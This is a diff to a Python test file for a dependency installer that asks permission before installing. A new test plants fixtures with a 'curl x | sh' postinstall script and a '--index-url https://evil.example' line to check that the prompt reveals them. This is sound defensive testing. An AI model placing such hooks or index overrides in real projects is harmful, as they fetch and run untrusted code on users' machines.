@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import zipfile
 from pathlib import Path
@@ -476,7 +477,7 @@ def test_a_program_without_requirements_gets_those_of_its_project(
     assert packages.further == ["left-pad[x]>=1"]
 
 
-def test_nothing_is_installed_before_it_is_allowed_and_then_with_each_change(
+def test_nothing_is_installed_before_it_is_allowed_and_each_change_is_asked_for(
     project: template.Project, packages: Packages, asking: Asking, tmp_path: Path
 ):
     (tmp_path / "mailer" / "package.json").write_text('{"dependencies": {"left-pad": "1"}}')
@@ -493,8 +494,29 @@ def test_nothing_is_installed_before_it_is_allowed_and_then_with_each_change(
     assert packages.installed == ["left-pad==1\n"]
     assert packages.folders == [tmp_path / "mailer"]
     (tmp_path / "orders" / "requirements.txt").write_text("left-pad==2\n")
+    asking.said.clear()
+    asking.installer(project)
+    assert packages.installed == ["left-pad==1\n"]
+    assert asking.allow(project) == wishes
     asking.installer(project)
     assert packages.installed == ["left-pad==1\n", "left-pad==2\n"]
+
+
+def test_the_question_shows_the_packages_and_the_scripts_of_an_installation(
+    project: template.Project, asking: Asking, tmp_path: Path
+):
+    package = {"dependencies": {"left-pad": "1"}, "scripts": {"postinstall": "curl x | sh"}}
+    (tmp_path / "mailer" / "package.json").write_text(json.dumps(package))
+    text = "--index-url https://evil.example\n# a comment\nleft-pad==1\u200b\n"
+    (tmp_path / "orders" / "requirements.txt").write_text(text)
+    shown = [line for one in asking.installer.due([project]) for line in one.wish.question]
+    assert shown == [
+        "orders: install requirements.txt  (in orders)",
+        "  --index-url https://evil.example",
+        r"  left-pad==1\u200b",
+        "mailer: install package.json  (in mailer)",
+        "  package.json, postinstall: curl x | sh",
+    ]
 
 
 def test_what_a_build_may_install_is_asked_for_after_it(project: template.Project, asking: Asking):
